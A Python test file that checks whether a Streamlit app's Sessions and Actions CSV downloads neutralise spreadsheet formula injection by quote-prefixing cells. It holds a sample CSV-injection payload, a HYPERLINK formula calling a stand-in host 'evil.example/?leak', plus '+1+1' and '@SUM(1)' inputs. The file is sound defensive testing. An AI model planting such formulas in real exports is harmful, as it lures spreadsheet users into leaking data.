"""Issue 9 item 6: the Sessions and Actions pages' CSV downloads are neutralised (AppTest, real
bundled server). The download's bytes are identified by Streamlit's own file id (a hash of the
data), so the test compares what the page offers with the neutralised CSV of the rows shown."""

from __future__ import annotations

import csv
import io
import os

from streamlit.runtime.memory_media_file_storage import _calculate_file_id

from stemgui.csv_safe import safe_csv
from tests.gui.apptest import logged_in

EVIL = '=HYPERLINK("http://evil.example/?leak","open me")'


def _offered(at, key: str, file_name: str, expected_csv: bytes) -> bool:
    """Whether the download button ``key`` offers exactly ``expected_csv``."""
    button = next(b for b in at.get("download_button") if b.proto.id.endswith(key))
    return button.proto.url.split("/")[-1].split(".")[0] == _calculate_file_id(
        expected_csv, "text/csv", file_name
    )


def test_sessions_csv_neutralises_a_formula_name(make_user):
    user = make_user("editor")
    project = user.api.list_all("project")[0]["id"]
    name = f"{EVIL} {os.getpid()}"
    user.api.save_model("session", data={"name": name, "projects": [project], "description": "+1+1"})

    at = logged_in(user)
    frame = at.dataframe[0].value
    assert name in set(frame["name"])
    offered = safe_csv(frame)
    assert _offered(at, "sessions.csv", "sessions.csv", offered)
    assert not _offered(at, "sessions.csv", "sessions.csv", frame.to_csv(index=False).encode())
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(offered.decode()))}
    assert rows["'" + name]["description"] == "'+1+1"


def test_actions_csv_neutralises_a_formula_description_and_keeps_negative_numbers(make_user):
    user = make_user("editor")
    subject = user.api.list_all("subject")[0]["id"]
    action = {
        "type": "OpticFiberImplant", "subject": subject, "description": f"@SUM(1) {os.getpid()}",
        "details": {"fiberTipShape": "flat"}, "coordinates_system": "Stereotaxic_BregmaAbsolute",
        "coordinates_details": {"apCoordinate": -1.5, "mlCoordinate": 2.0, "dvCoordinate": -3.0},
    }  # fmt: skip
    saved = user.api.save_model("action", data=action)["action"]

    at = logged_in(user, "pages/actions.py")
    frame = at.dataframe[0].value
    offered = safe_csv(frame, index=True)
    assert _offered(at, "actions.csv", "actions.csv", offered)
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(offered.decode()))}
    assert rows[saved["id"]]["description"] == "'" + action["description"]
